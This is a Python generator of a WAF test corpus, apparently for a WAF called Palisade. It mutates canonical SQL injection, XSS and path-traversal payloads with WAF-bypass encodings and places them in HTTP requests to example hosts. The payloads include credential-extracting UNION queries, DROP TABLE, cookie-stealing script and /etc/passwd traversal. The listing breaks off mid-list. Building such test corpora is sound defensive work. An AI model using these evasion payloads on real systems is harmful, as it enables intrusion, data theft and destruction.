#!/usr/bin/env python3
"""Held-out corpus "mutations": canonical attack payloads run through WAF-bypass mutations.

What it is
    A deterministic generator (stdlib only, fixed seed) of labelled HTTP requests in the
    JSON-lines shape described in /work/shared/corpora/README.md.  It imitates what a WAF
    tester does with a bypass tool: about 70 canonical payloads across the classes sqli,
    xss, lfi, rfi, rce, php, java, ssrf, xxe, ssti, nosqli, ldapi and crlf are mutated
    with the evasion techniques that public WAF-bypass tools and write-ups use (URL,
    double-URL, %u and overlong UTF-8 encodings, mixed case, SQL comments and versioned
    comments, alternative whitespace, string concatenation, char()/hex literals, HTML
    entities, JavaScript escapes, tag/attribute tricks, full-width Unicode, path tricks,
    shell tricks, nested Log4Shell lookups, base64 where the application decodes it,
    JSON \\u escapes, parameter pollution, multipart quirks, IP obfuscation, XML
    encodings, ...), one or two per case, and placed where a real request carries them
    (query, urlencoded form, nested JSON, XML element/attribute, multipart field or
    filename, cookie, User-Agent/Referer/X-Forwarded-For/custom header, URL path).
    Every mutation is meant to stay functional for its target (a parser, shell,
    interpreter or template engine that would still execute it).

    "benign" mode writes look-alike legitimate traffic over the same placements
    (category "benign"), plus legitimate code and SQL snippets posted to forum,
    helpdesk and code-review fields (category "dev-content"); all expect "pass".

Written blind
    This file was written without reading Palisade's rulesets (rules, sources, tests or
    test data) or the other corpus generators, and without running the WAF, so that it
    measures the WAF on traffic it was not tuned for.  All host names are example names;
    nothing is sent anywhere.

Run
    python3 scripts/corpus-mutations.py attacks > rulesets/tests/data/mutations-attacks.jsonl
    python3 scripts/corpus-mutations.py benign  > rulesets/tests/data/mutations-benign.jsonl
    (and to check the output:)
    python3 scripts/corpus-mutations.py validate rulesets/tests/data/mutations-*.jsonl
"""

import base64
import collections
import gzip
import itertools
import json
import random
import re
import sys
from urllib.parse import quote, quote_plus

SET = "mutations"
SEED = 0x5A115AD

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
]
ACCEPTS = [
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "application/json, text/plain, */*",
    "*/*",
]
BOUNDARIES = [
    "----WebKitFormBoundary7MA4YWxkTrZu0gW",
    "---------------------------41184676334",
    "----geckoformboundary5f3b2c9a1e7d",
    "X-BOUNDARY-0042",
]
SESSION = "sess_5f0c2e9b7a41d3e8"


def pick(seq, k):
    return seq[k % len(seq)]


# ----------------------------------------------------------------------------- encodings

def pct_all(s, encoding="utf-8"):
    """Percent-encode every byte (Burp "URL-encode all characters")."""
    return "".join("%%%02X" % b for b in s.encode(encoding))


def pct_double(s):
    """Double URL encoding of every non-alphanumeric byte (%3C -> %253C)."""
    out = []
    for ch in s:
        if ch.isascii() and ch.isalnum():
            out.append(ch)
        else:
            out.extend("%%25%02X" % b for b in ch.encode("utf-8"))
    return "".join(out)


def pct_u(s):
    """IIS-style %uXXXX encoding of every non-alphanumeric character."""
    return "".join(c if (c.isascii() and c.isalnum()) else "%%u%04X" % ord(c) for c in s)


OVERLONG = {"/": "%C0%AF", ".": "%C0%AE", "<": "%C0%BC", ">": "%C0%BE", "\\": "%C1%9C",
            "'": "%C0%A7", '"': "%C0%A2", " ": "%C0%A0"}


def pct_overlong(s):
    """Two-byte overlong UTF-8 forms for the structural characters (%c0%af for '/')."""
    return "".join(OVERLONG.get(c) or quote(c, safe="") for c in s)


def enc_url(v, enc, ctx):
    """Wire form of a value for a URL-ish context (query, form, cookie, path, pathslash)."""
    if enc == "urlenc":
        return pct_all(v)
    if enc == "dblurl":
        return pct_double(v)
    if enc == "uenc":
        return pct_u(v)
    if enc == "overlong":
        return pct_overlong(v)
    if ctx == "query":
        return quote(v, safe="/:,()*!@$-_.~")
    if ctx == "form":
        return quote_plus(v, safe="*")
    if ctx == "cookie":
        return quote(v, safe="!#$&'()*+/:<=>?@[]^`{|}~")
    if ctx == "pathslash":
        return quote(v, safe="/:;,()*!@$=")
    return quote(v, safe=":,()*!@$=")


def json_str(v, enc):
    """Body of a JSON string literal (no quotes)."""
    if enc == "jsonuni":
        out, prev_alnum = [], False
        for c in v:
            alnum = c.isascii() and c.isalnum()
            if alnum and prev_alnum:
                out.append(c)
            else:
                out.append("\\u%04x" % ord(c) if ord(c) < 0x10000 else json.dumps(c)[1:-1])
            prev_alnum = alnum
        return "".join(out)
    return json.dumps(v, ensure_ascii=False)[1:-1]


def xml_text(v, enc, attr=False):
    if enc == "xmlent":
        out = []
        for i, c in enumerate(v):
            if c.isascii() and c.isalnum():
                out.append(c)
            else:
                out.append("&#%d;" % ord(c) if i % 2 else "&#x%x;" % ord(c))
        return "".join(out)
    s = v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    s = s.replace("\r", "&#13;").replace("\n", "&#10;")
    if attr:
        s = s.replace('"', "&quot;").replace("\t", "&#9;")
    return s


URL_ENCS = {"urlenc", "dblurl", "uenc", "overlong"}
URLISH = ["query", "form", "cookie", "path"]


# ----------------------------------------------------------------------------- requests

def request(method, uri, host, headers=(), body=None, ctype=None, k=0):
    extra = [list(h) for h in headers]
    names = {h[0].lower() for h in extra}
    hs = [["Host", host]]
    if "user-agent" not in names:
        hs.append(["User-Agent", pick(UAS, k)])
    if "accept" not in names:
        hs.append(["Accept", pick(ACCEPTS, k)])
    if "accept-language" not in names:
        hs.append(["Accept-Language", pick(["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7"], k)])
    hs += extra
    if body is not None:
        hs.append(["Content-Type", ctype])
        hs.append(["Content-Length", str(len(body.encode("utf-8")))])
    r = {"method": method, "uri": uri, "version": "HTTP/1.1", "headers": hs}
    if body is not None:
        r["body"] = body
    return r


def raw_request(method, uri, host, headers, body=None, k=0):
    """Complete raw request bytes; uri/body may be bytes."""
    if isinstance(uri, str):
        uri = uri.encode("utf-8")
    lines = [method.encode() + b" " + uri + b" HTTP/1.1", b"Host: " + host.encode()]
    names = {h[0].lower() for h in headers}
    if "user-agent" not in names:
        lines.append(b"User-Agent: " + pick(UAS, k).encode())
    lines.append(b"Accept: */*")
    for name, value in headers:
        if isinstance(value, str):
            value = value.encode("utf-8")
        lines.append(name.encode() + b": " + value)
    if body is not None:
        lines.append(b"Content-Length: " + str(len(body)).encode())
    data = b"\r\n".join(lines) + b"\r\n\r\n" + (body or b"")
    return {"raw_b64": base64.b64encode(data).decode()}


def multipart(parts, boundary, nl="\r\n"):
    """parts: list of (disposition_params, content, extra_headers)."""
    out = []
    for disp, content, extra in parts:
        out.append("--" + boundary + nl)
        out.append("Content-Disposition: form-data; " + disp + nl)
        for h in extra:
            out.append(h + nl)
        out.append(nl)
        out.append(content + nl)
    out.append("--" + boundary + "--" + nl)
    return "".join(out)


# ----------------------------------------------------------------------------- contexts

CTX = {
    "sqli": dict(host="shop.example.com", paths=["/products", "/catalog/search", "/account/orders", "/reports/sales", "/api/v1/items"],
                 params=["id", "category", "sort", "order_id", "user"], cookies=["TrackingId", "cart_id", "region"],
                 headers=["X-Forwarded-For", "User-Agent", "Referer", "X-Customer-Id"], pathbase="/api/v1/products/",
                 extra=["page=1", "lang=en", "", "view=grid"]),
    "xss": dict(host="blog.example.org", paths=["/search", "/comments/preview", "/profile", "/error", "/share"],
                params=["q", "comment", "name", "message", "title"], cookies=["last_search", "display_name", "lang"],
                headers=["Referer", "User-Agent", "X-Forwarded-Host", "X-Display-Name"], pathbase="/tag/",
                extra=["page=2", "", "sort=new"]),
    "xss-url": dict(host="blog.example.org", paths=["/redirect", "/profile/edit", "/link", "/login"],
                    params=["url", "website", "next", "returnUrl", "href"], cookies=["return_to"],
                    headers=["Referer"], pathbase="/out/", extra=["", "src=nav"]),
    "lfi": dict(host="files.example.net", paths=["/download", "/view.php", "/index.php", "/api/v2/attachments", "/help"],
                params=["file", "page", "path", "template", "doc"], cookies=["template", "lang", "theme"],
                headers=["X-Template", "X-File-Path", "Accept-Language"], pathbase="/static/",
                extra=["", "inline=1", "v=3"]),
    "rfi": dict(host="cms.example.org", paths=["/index.php", "/main.php", "/modules/loader.php", "/page.php"],
                params=["page", "include", "template", "module", "lang_file"], cookies=["lang", "skin"],
                headers=["X-Include"], pathbase="/", extra=["", "id=5", "debug=0"]),
    "rce": dict(host="netadmin.example.com", paths=["/tools/ping", "/api/diag/traceroute", "/cgi-bin/lookup.cgi", "/admin/convert", "/api/v1/dns"],
                params=["host", "ip", "target", "filename", "domain"], cookies=["last_host", "tool_pref"],
                headers=["User-Agent", "X-Target-Host", "Referer"], pathbase="/api/ping/",
                extra=["count=3", "", "proto=icmp"], prefix=["127.0.0.1", "example.com", "8.8.8.8", "report.pdf", ""]),
    "php": dict(host="www.example.org", paths=["/index.php", "/admin/settings.php", "/plugins/view.php", "/api.php"],
                params=["page", "file", "data", "code", "prefs"], cookies=["user_prefs", "PHPSESSID_DATA", "cart"],
                headers=["User-Agent", "Referer", "X-Data"], pathbase="/index.php/",
                extra=["", "action=view", "mod=core"]),
    "java": dict(host="app.example.com", paths=["/api/search", "/login.action", "/app/greeting", "/portal/home", "/api/v1/events"],
                 params=["q", "name", "redirect", "expr", "message"], cookies=["JSESSIONID_X", "lang", "rememberMe"],
                 headers=["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "X-Request-Id"], pathbase="/api/v1/resource/",
                 extra=["", "locale=en_US", "page=0"]),
    "ssrf": dict(host="api.example.com", paths=["/api/fetch", "/image/proxy", "/webhooks/test", "/api/v1/preview", "/export/pdf"],
                 params=["url", "image_url", "callback", "target", "feed"], cookies=["avatar_src"],
                 headers=["X-Webhook-Url", "X-Image-Source"], pathbase="/proxy/",
                 extra=["", "width=200", "format=png"]),
    "ssti": dict(host="mail.example.net", paths=["/greeting", "/preview", "/api/render", "/newsletter/preview", "/profile"],
                 params=["name", "template", "subject", "message", "title"], cookies=["display_name", "greeting"],
                 headers=["User-Agent", "Referer", "X-Display-Name"], pathbase="/hello/",
                 extra=["", "lang=en", "format=html"]),
    "ldapi": dict(host="directory.example.com", paths=["/login", "/api/users/search", "/people", "/auth"],
                  params=["user", "username", "uid", "cn", "q"], cookies=["last_user"],
                  headers=["X-Remote-User", "X-Username"], pathbase="/people/",
                  extra=["", "ou=staff", "limit=10"]),
    "crlf": dict(host="www.example.com", paths=["/redirect", "/set-language", "/download", "/logout", "/r"],
                 params=["next", "lang", "url", "filename", "return"], cookies=["lang"],
                 headers=[], pathbase="/", extra=["", "src=mail"], prefix=["/account", "en", "", "report.pdf"]),
}

CLASS_PLACES = {
    "sqli": ["query", "form", "json", "cookie", "header", "xml", "multipart", "path"],
    "xss": ["query", "form", "json", "multipart", "header", "cookie", "xml", "path"],
    "xss-url": ["query", "form", "json", "multipart", "xml"],
    "lfi": ["query", "path", "form", "json", "cookie", "multipart", "header", "xml"],
    "rfi": ["query", "form", "json", "cookie", "multipart", "xml"],
    "rce": ["query", "form", "json", "multipart", "header", "xml", "cookie", "path"],
    "php": ["query", "form", "json", "cookie", "multipart", "xml"],
    "java": ["header", "query", "json", "form", "cookie", "path", "multipart", "xml"],
    "ssrf": ["query", "json", "form", "xml", "multipart", "header", "path"],
    "ssti": ["query", "form", "json", "multipart", "xml", "header", "cookie", "path"],
    "ldapi": ["form", "query", "json", "xml", "header", "multipart", "path"],
    "crlf": ["query", "path", "form", "cookie", "json", "multipart"],
}


def header_ok(v):
    return all(0x20 <= ord(c) < 0x7F or c == "\t" for c in v) and v.strip() == v.strip(" ")


def place(cat, p, v, enc, k, case):
    """Build a request carrying value v at placement p. Returns a request dict or None."""
    ctx = CTX[case.get("ctx", cat)]
    host = ctx["host"]
    param = pick(case.get("params") or ctx["params"], k)
    wire = case.get("wire")
    extra = pick(ctx["extra"], k)
    path = pick(ctx["paths"], k)
    if p == "query":
        w = wire if wire else enc_url(v, enc, "query")
        q = (extra + "&" if extra else "") + param + "=" + w
        return request("GET", path + "?" + q, host, k=k)
    if p == "form":
        w = wire if wire else enc_url(v, enc, "form")
        body = (extra + "&" if extra else "") + param + "=" + w
        ct = pick(["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"], k)
        return request("POST", path, host, body=body, ctype=ct, k=k)
    if p == "cookie":
        if wire:
            return None
        cname = pick(case.get("cookies") or ctx["cookies"], k)
        w = enc_url(v, enc, "cookie")
        return request("GET", path, host, headers=[["Cookie", "sid=%s; %s=%s; consent=1" % (SESSION, cname, w)]], k=k)
    if p == "path":
        if wire or case.get("nopath"):
            return None
        w = enc_url(v, enc, "pathslash" if case.get("pathslash") else "path")
        return request("GET", ctx["pathbase"] + w, host, k=k)
    if wire or (enc in URL_ENCS):
        return None
    if p == "json":
        mark = "ZZPAYLOADZZ"
        t = k % 4
        if t == 0:
            obj = {param: mark, "page": 1, "client": "web"}
        elif t == 1:
            obj = {"data": {"type": "request", "attributes": {param: mark, "locale": "en"}}}
        elif t == 2:
            obj = {"items": [{"sku": "A-1001", "qty": 1}, {"sku": "B-2002", param: mark}], "meta": {"v": 3}}
        else:
            obj = {"query": {"filter": {param: mark, "active": True}}, "limit": 20, "offset": 0}
        body = json.dumps(obj).replace('"%s"' % mark, '"%s"' % json_str(v, enc))
        return request("POST", path, host, body=body, ctype=pick(["application/json", "application/json; charset=utf-8"], k), k=k)
    if p == "xml":
        t = k % 3
        if t == 0:
            body = '<?xml version="1.0" encoding="UTF-8"?>\n<request><%s>%s</%s><page>1</page></request>' % (param, xml_text(v, enc), param)
            return request("POST", path, host, body=body, ctype="application/xml", k=k)
        if t == 1:
            body = '<?xml version="1.0"?>\n<search><filter field="%s" value="%s"/><limit>10</limit></search>' % (param, xml_text(v, enc, attr=True))
            return request("POST", path, host, body=body, ctype="text/xml; charset=utf-8", k=k)
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" '
                'xmlns:ns="urn:example:svc"><soapenv:Header/><soapenv:Body><ns:Lookup><ns:%s>%s</ns:%s></ns:Lookup>'
                '</soapenv:Body></soapenv:Envelope>' % (param, xml_text(v, enc), param))
        return request("POST", path, host, headers=[["SOAPAction", '"urn:example:svc#Lookup"']], body=body,
                       ctype="text/xml; charset=utf-8", k=k)
    if p == "multipart":
        if enc:
            return None
        b = pick(BOUNDARIES, k)
        parts = [('name="csrf_token"', "c7f9a1e2b3d4", []), ('name="%s"' % param, v, [])]
        if k % 2:
            parts.append(('name="attachment"; filename="notes.txt"', "see attached", ["Content-Type: text/plain"]))
        body = multipart(parts, b)
        return request("POST", path, host, body=body, ctype="multipart/form-data; boundary=" + b, k=k)
    if p == "header":
        if enc or not ctx["headers"]:
            return None
        hname = pick(case.get("headers") or ctx["headers"], k)
        hv = v
        if hname == "Referer":
            hv = "https://%s%s?%s=%s" % (host, path, param, enc_url(v, None, "query"))
        if hv != hv.strip():
            hv = hv.strip()
            if hv.endswith("--"):
                hv += " -"
        if not header_ok(hv):
            return None
        return request("GET", path, host, headers=[[hname, hv]], k=k)
    raise ValueError(p)


# ----------------------------------------------------------------------------- helpers

def C(tech, value, places=None, enc=None, **kw):
    d = dict(tech=tech, value=value, places=places, enc=enc)
    d.update(kw)
    return d


def randcase(word, rng):
    for _ in range(20):
        w = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in word)
        if w != word.upper() and w != word.lower():
            return w
    return word[0].lower() + word[1:].upper()


def b64(s):
    return base64.b64encode(s.encode("utf-8") if isinstance(s, str) else s).decode()


def ip_dec(ip):
    a, b, c, d = (int(x) for x in ip.split("."))
    return (a << 24) | (b << 16) | (c << 8) | d


def php_ser(cls, props):
    body = "".join('s:%d:"%s";s:%d:"%s";' % (len(k.encode()), k, len(v.encode()), v) for k, v in props.items())
    return 'O:%d:"%s":%d:{%s}' % (len(cls.encode()), cls, len(props), body)


# ----------------------------------------------------------------------------- sqli

SQL_KW = (r"\b(UNION|SELECT|FROM|WHERE|AND|OR|SLEEP|ORDER|BY|DROP|TABLE|WAITFOR|DELAY|COUNT|NULL|CONCAT|"
          r"EXTRACTVALUE|VERSION|SUBSTRING|LIMIT|ASCII|ALL|BENCHMARK|MD5|DATABASE|PG_SLEEP)\b")

SQLI = [  # body, terminator, dialect
    ("' OR 1=1", "-- ", "any"),
    ("1 UNION SELECT username,password FROM users", "", "any"),
    ("1 AND SLEEP(5)", "", "mysql"),
    ("1' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT VERSION())))", "-- -", "mysql"),
    ("1; DROP TABLE users", "-- ", "any"),
    ("admin' OR '1'='1", "", "any"),
    ("1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)", "", "mysql"),
    ("1'; WAITFOR DELAY '0:0:5'", "--", "mssql"),
    ("' UNION SELECT NULL,@@version,NULL", "-- -", "mysql"),
    ("1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64 AND '1'='1", "", "mysql"),
    ("1; SELECT pg_sleep(5)", "--", "pg"),
    ("1 OR BENCHMARK(5000000,MD5(1))", "", "mysql"),
    ("-1 UNION ALL SELECT table_name,2 FROM information_schema.tables WHERE table_schema=database()", "-- ", "mysql"),
    ("1' ORDER BY 10", "-- ", "any"),
]

SQL_MUTS = ["case", "comment", "versioned", "altws", "space2hash", "space2dash", "symbolic", "likeop",
            "between", "fullwidth", "a0", "gbk", "plus", "urlenc", "dblurl", "uenc", "case+comment",
            "versioned+case", "altws+case"]


def sql_applicable(m, body, dia):
    mysql = dia in ("mysql", "any")
    if m in ("versioned", "space2hash", "symbolic", "a0", "versioned+case"):
        return mysql and (m != "symbolic" or re.search(r"\b(AND|OR)\b", body))
    if m == "space2dash":
        return dia in ("mssql", "pg", "any")
    if m == "likeop":
        return "=" in body
    if m == "between":
        return bool(re.search(r">\d+|\b1=1\b", body))
    if m in ("fullwidth",):
        return body.startswith("'") or "admin'" in body
    if m == "gbk":
        return mysql and re.match(r"^(\d*|admin)'", body)
    return True


def sql_mutate(m, body, term, rng):
    """Returns (value, wire-or-None, places-or-None, enc-or-None)."""
    def ws(repl):
        return body.replace(" ", repl) if isinstance(repl, str) else re.sub(" ", lambda _: repl(), body)
    if m == "case":
        return re.sub(SQL_KW, lambda mo: randcase(mo.group(0), rng), body, flags=re.I) + term, None, None, None
    if m == "comment":
        return ws(pick(["/**/", "/*x*/", "/**_**/"], len(body))) + term, None, None, None
    if m == "case+comment":
        b = re.sub(SQL_KW, lambda mo: randcase(mo.group(0), rng), body, flags=re.I)
        return b.replace(" ", "/**/") + term, None, None, None
    if m in ("versioned", "versioned+case"):
        def ver(mo):
            kw = mo.group(0) if m == "versioned" else randcase(mo.group(0), rng)
            return "/*!%s%s*/" % (pick(["50000", "12345", "", "00000"], len(mo.group(0))), kw)
        return re.sub(r"\b(UNION|SELECT|FROM|AND|OR|WHERE|ALL|SLEEP)\b", ver, body) + term, None, None, None
    if m == "altws":
        return ws(lambda: rng.choice(["\t", "\n", "\x0b", "\x0c", "\r\n", "\t\t"])) + term, None, None, None
    if m == "altws+case":
        b = re.sub(SQL_KW, lambda mo: randcase(mo.group(0), rng), body, flags=re.I)
        return b.replace(" ", rng.choice(["\t", "\n", "\x0c"])) + term, None, None, None
    if m == "space2hash":
        return ws(lambda: "#%s\n" % "".join(rng.choice("abcdefghijklmnop") for _ in range(4))) + term, None, None, None
    if m == "space2dash":
        return ws(lambda: "--%s\n" % "".join(rng.choice("qrstuvwxyz") for _ in range(4))) + term, None, None, None
    if m == "symbolic":
        return re.sub(r" AND ", " && ", re.sub(r" OR ", " || ", body)) + term, None, None, None
    if m == "likeop":
        return body.replace("=", " LIKE ") + term, None, None, None
    if m == "between":
        b = re.sub(r">(\d+)", r" NOT BETWEEN 0 AND \1", body)
        b = re.sub(r"\b1=1\b", "1 BETWEEN 1 AND 1", b)
        return b + term, None, None, None
    if m == "fullwidth":
        return body.replace("'", "\uff07", 1) + term, None, None, None
    if m == "a0":
        v = body + term
        return v, quote(body.replace(" ", "\xa0"), safe="()*,=", encoding="latin-1") + quote(term), ["query", "form"], None
    if m == "gbk":
        v = body + term
        i = body.index("'")
        return v, quote(body[:i]) + "%BF%27" + quote(body[i + 1:] + term, safe="()*,"), ["query", "form"], None
    if m == "plus":
        v = body + term
        return v, quote_plus(v, safe="()*,"), ["query"], None
    if m in ("urlenc", "dblurl", "uenc"):
        return body + term, None, None, m
    raise ValueError(m)


def sqli_cases(rng):
    out = []
    for i, (body, term, dia) in enumerate(SQLI):
        appl = [m for m in SQL_MUTS if sql_applicable(m, body, dia)]
        rng.shuffle(appl)
        for m in appl[:3 if i < 7 else 2]:
            v, wire, places, enc = sql_mutate(m, body, term, rng)
            out.append(C(m, v, places=places, enc=enc, wire=wire, combine=(wire is None and enc is None)))
    q_hex = "SELECT name FROM master..sysdatabases".encode().hex()
    out += [
        C("charhex", "' OR 0x61=CHAR(97)-- "),
        C("charhex", "1 UNION SELECT username,password FROM users WHERE username=0x61646d696e"),
        C("charhex", "1' AND ASCII(SUBSTRING((SELECT password FROM users WHERE username=CHAR(97,100,109,105,110)),1,1))>64-- -"),
        C("charhex", "1'; DECLARE @x CHAR(5)=0x303a303a35; WAITFOR DELAY @x--"),
        C("charhex", "1; DECLARE @q VARCHAR(200)=0x%s; EXEC(@q)--" % q_hex),
        C("concat", "1; EXEC('SEL'+'ECT * FR'+'OM users')--"),
        C("concat", "1;DO $$BEGIN EXECUTE 'SEL'||'ECT pg_sleep(5)';END$$--"),
        C("concat", "1 UNION SELECT CONCAT(username,0x3a,password),NULL FROM users"),
        C("concat", "1; SET @q=CONCAT('SEL','ECT SLEEP(5)'); PREPARE s FROM @q; EXECUTE s;-- "),
        C("percent", "1 UNION SELECT username,password FROM users", places=["query"],
          wire="1%20%U%N%I%O%N%20%S%E%L%E%C%T%20username,password%20%F%R%O%M%20users"),
        C("jsonuni", "' OR 1=1-- ", places=["json"], enc="jsonuni"),
        C("xmlent", "1' AND SLEEP(5)-- -", places=["xml"], enc="xmlent"),
        C("base64", b64("' OR 1=1-- "), places=["cookie"], cookies=["TrackingId"]),
        C("mp-filename", "a.jpg', (SELECT @@version))-- -", special="mp_filename"),
        C("mp-filenamestar", "x.png'),((SELECT password FROM users LIMIT 1))-- -", special="mp_filenamestar"),
        C("mp-boundary", "1 UNION SELECT username,password FROM users", special="mp_boundary"),
        C("hpp", ["1/**/UNION/*", "*/SELECT/*", "*/username,password/**/FROM/**/users"], special="hpp", params=["id"]),
        C("hpp", ["' OR 1=1/*", "*/-- "], special="hpp", params=["user"]),
        C("hpp", ["1 AND/*", "*/SLEEP(5)"], special="hpp-form", params=["id"]),
        C("hpp-last", ["1", "1 UNION SELECT username,password FROM users"], special="hpp", params=["id"]),
        C("altws+urlenc", "1\tUNION\tSELECT\tusername,password\tFROM\tusers", places=["query"], enc="urlenc"),
        C("comment+dblurl", "1/**/AND/**/SLEEP(5)", places=["query", "cookie"], enc="dblurl"),
        C("a0", "1 UNION SELECT username,password FROM users", special="raw_a0"),
        C("mp-lfonly", "1' AND SLEEP(5)-- -", special="raw_mp_lf"),
    ]
    return out


# ----------------------------------------------------------------------------- xss

XSS = [
    ("xss", "<script>alert(1)</script>", [
        C("case", "<ScRiPt>alert(1)</sCrIpT>"),
        C("tagtrick", "<script >alert(1)</script >"),
        C("jsesc", "<script>\\u0061lert(1)</script>"),
        C("jsesc", "<script>eval('\\x61\\x6c\\x65\\x72\\x74(1)')</script>"),
        C("concat", "<script>window['al'+'ert'](1)</script>"),
        C("tagtrick", "<script>alert`1`</script>"),
        C("fullwidth", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
        C("urlenc", "<script>alert(1)</script>", enc="urlenc", places=URLISH),
        C("dblurl", "<script>alert(1)</script>", enc="dblurl", places=["query", "form"]),
        C("overlong", "<script>alert(1)</script>", enc="overlong", places=["query", "path"]),
    ]),
    ("xss", "<img src=x onerror=alert(1)>", [
        C("case", "<IMG SRC=x OnErRoR=alert(1)>"),
        C("htmlent", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
        C("htmlent", "<img src=x onerror=&#97&#108&#101&#114&#116(1)>"),
        C("htmlent", "<img src=x onerror=&#0000097;&#0000108;ert(1)>"),
        C("tagtrick", "<img src=x\nonerror=alert(1)>"),
        C("tagtrick", '<img src="x"onerror="alert(1)">'),
        C("tagtrick", "<img src=x onerror=alert`1`>"),
        C("jsesc", "<img src=x onerror=\\u0061lert(1)>"),
        C("jsonuni", "<img src=x onerror=alert(1)>", enc="jsonuni", places=["json"]),
    ]),
    ("xss", "<svg/onload=alert(1)>", [
        C("case", "<SvG/OnLoAd=alert(1)>"),
        C("tagtrick", "<svg\nonload=alert(1)>"),
        C("tagtrick", "<svg\x0conload=alert(1)>"),
        C("htmlent", "<svg/onload=&#x61;lert(1)>"),
        C("htmlent", "<svg onload=&#0000097lert(1)>"),
        C("jsesc", "<svg/onload=\\u0061\\u006cert(1)>"),
        C("urlenc", "<svg/onload=alert(1)>", enc="urlenc", places=URLISH),
    ]),
    ("xss-url", "javascript:alert(1)", [
        C("case", "JaVaScRiPt:alert(1)"),
        C("tagtrick", "java\tscript:alert(1)"),
        C("tagtrick", "javascript://%0aalert(1)"),
        C("jsesc", "javascript:\\u0061lert(1)"),
        C("scheme-urlenc", "javascript:%61lert%281%29"),
        C("htmlent", "&#106;avascript:alert(1)"),
        C("htmlent", "javascript&colon;alert(1)"),
        C("htmlent", "jav&#x09;ascript:alert(1)"),
        C("base64", "data:text/html;base64," + b64("<script>alert(1)</script>")),
    ]),
    ("xss", '"><script>alert(document.cookie)</script>', [
        C("case", '"><sCrIpT>alert(document.cookie)</ScRiPt>'),
        C("jsesc", "\"><script>alert(document['\\x63ookie'])</script>"),
        C("concat", "\"><script>alert(document['coo'+'kie'])</script>"),
        C("urlenc", '"><script>alert(document.cookie)</script>', enc="urlenc", places=["cookie", "path"]),
    ]),
    ("xss", '<iframe src="javascript:alert(1)">', [
        C("htmlent", '<iframe src="&#x6A;avascript:alert(1)">'),
        C("case", '<IfRaMe SrC="jAvAsCrIpT:alert(1)">'),
        C("htmlent", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">'),
    ]),
    ("xss", "<body onload=alert(1)>", [
        C("case", "<BODY ONLOAD=alert(1)>"),
        C("tagtrick", "<body/onload=alert(1)>"),
        C("htmlent", "<body onload=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>"),
    ]),
    ("xss", "<details open ontoggle=alert(1)>", [
        C("tagtrick", "<details/open/ontoggle=alert(1)>"),
        C("case", "<DeTaIlS OpEn OnToGgLe=alert(1)>"),
        C("jsesc", "<details open ontoggle=\\u0061lert(1)>"),
    ]),
    ("xss", "<input autofocus onfocus=alert(1)>", [
        C("tagtrick", "<input autofocus onfocus=alert`1`>"),
        C("htmlent", "<input autofocus onfocus=&#97;lert(1)>"),
    ]),
    ("xss", "';alert(1);//", [
        C("jsesc", "';\\u0061lert(1);//", places=["query", "form", "json"]),
        C("concat", "';window['al'+'ert'](1);//", places=["query", "form", "json"]),
        C("tagtrick", "'-alert(1)-'", places=["query", "form", "json"]),
    ]),
]


def xss_cases(rng):
    out = []
    for ctxname, _canon, variants in XSS:
        for c in variants:
            c = dict(c)
            if ctxname == "xss-url":
                c["ctx"] = "xss-url"
                if not c.get("places"):
                    c["places"] = CLASS_PLACES["xss-url"]
            out.append(c)
    out += [
        C("mp-filename", '"><img src=x onerror=alert(1)>.png', special="mp_filename"),
        C("mp-filenamestar", "<script>alert(1)</script>.pdf", special="mp_filenamestar"),
        C("mp-boundary", "<img src=x onerror=alert(1)>", special="mp_boundary"),
        C("hpp", ["<script>alert(1)/*", "*/</script>"], special="hpp", params=["q"]),
        C("hpp", ["<svg/onload=alert(1)//", ">"], special="hpp-form", params=["comment"]),
        C("base64", b64('{"name":"<img src=x onerror=alert(1)>","theme":"dark"}'), places=["cookie"], cookies=["profile"]),
        C("case+htmlent", "<ImG sRc=x OnErRoR=&#x61;&#x6C;&#x65;&#x72;&#x74;(1)>"),
    ]
    return out


# ----------------------------------------------------------------------------- lfi / rfi

LFI = [
    ("../../../../etc/passwd", [
        C("pathtrick", "....//....//....//....//etc/passwd"),
        C("pathtrick", "..././..././..././..././etc/passwd"),
        C("pathtrick", "../../../../etc/./passwd"),
        C("pathtrick", "/var/www/html/../../../etc/passwd"),
        C("pathtrick", "..;/..;/..;/..;/etc/passwd", places=["path"]),
        C("nullbyte", "../../../../etc/passwd\x00.png", places=["query", "form", "cookie"]),
        C("urlenc", "../../../../etc/passwd", enc="urlenc", places=URLISH),
        C("urlenc", "../../../../etc/passwd", places=["query", "path"], wire="%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
        C("dblurl", "../../../../etc/passwd", enc="dblurl", places=["query", "path", "form"]),
        C("overlong", "../../../../etc/passwd", enc="overlong", places=["query", "path"]),
